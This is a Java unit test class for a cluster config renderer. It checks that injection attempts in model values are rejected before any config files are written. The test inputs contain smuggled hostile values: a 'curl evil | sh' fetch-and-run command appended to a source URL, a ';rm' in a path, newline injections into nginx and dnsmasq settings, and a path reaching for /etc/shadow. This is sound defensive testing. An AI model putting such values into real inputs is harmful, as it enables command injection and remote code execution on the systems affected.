package dev.stackwright.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.stackwright.InvalidClusterException;
import dev.stackwright.model.Application;
import dev.stackwright.model.Cluster;
import org.junit.jupiter.api.Test;

class InjectionTest {
  private final Renderer renderer = Topologies.renderer();

  /** The seed with another application, built without the DSL, which would have refused it. */
  private static Cluster withApplication(Application.Builder app) {
    return Cluster.builder().from(Topologies.seed()).application(app.build()).build();
  }

  private static Application.Builder demo() {
    return Application.builder().name("demo").wsgi("demo.wsgi:application").celeryApp("demo")
        .source("https://git.example.org/demo.git").version("v1.0");
  }

  @Test
  void aNewlineInAModelValueIsRejectedBeforeRendering() {
    // given
    Cluster cluster = withApplication(demo().version("v1\nlisten 0.0.0.0:80;"));

    // when
    InvalidClusterException e = catchThrowableOfType(InvalidClusterException.class, () -> renderer.render(cluster));

    // then
    assertThat(e.problems()).hasSize(1);
    assertThat(e.problems().get(0).path()).isEqualTo("application[demo].version");
    assertThat(e).hasMessageContaining("\"v1\\nlisten 0.0.0.0:80;\" contains a newline at position 3, which would "
        + "break the config files it is written into");
  }

  @Test
  void quotesBracesAndSemicolonsAreRejectedEverywhereAtOnce() {
    // given
    Cluster cluster = withApplication(demo().wsgi("demo.wsgi:app\"").celeryApp("demo}")
        .home("/srv/demo;rm").source("https://x/\"a"));

    // when
    InvalidClusterException e = catchThrowableOfType(InvalidClusterException.class, () -> renderer.render(cluster));

    // then
    assertThat(e.problems()).extracting(p -> p.path()).containsExactly("application[demo].wsgi",
        "application[demo].celeryApp", "application[demo].source", "application[demo].home",
        "application[demo].staticRoot");
    assertThat(e).hasMessageContaining("a double quote").hasMessageContaining("\"demo}\" is not a Python module path")
        .hasMessageContaining("a semicolon");
  }

  @Test
  void aSpaceInTheSourceCannotSmuggleAShellCommand() {
    // given
    Cluster cluster = withApplication(demo().source("https://x/demo.git && curl evil | sh"));

    // when / then
    assertThatThrownBy(() -> renderer.render(cluster)).isInstanceOf(InvalidClusterException.class)
        .hasMessageContaining("[application[demo].source]");
  }

  @Test
  void aMacThatIsNotOneIsRejected() {
    assertThatThrownBy(() -> NetworkFacts.builder().mac("worker-1", "fa:16:3e:00:00:01\ndhcp-range=0.0.0.0"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("is not six hex pairs separated by colons");
  }

  @Test
  void anExtraFilePathThatCouldInjectIsRejected() {
    assertThatThrownBy(() -> Renderer.builder().addFile("worker", "/etc/x\n  - path: /etc/shadow", "t.jinja"))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("is not a plain absolute path");
    assertThatThrownBy(() -> Renderer.builder().addFile("worker", "/etc/x;y", "t.jinja"))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("has characters a config cannot take");
    assertThatThrownBy(() -> Renderer.builder().addFile("worker", "/etc/x", "t.jinja", 0644, "root:root\"x"))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("is not user:group");
  }
}
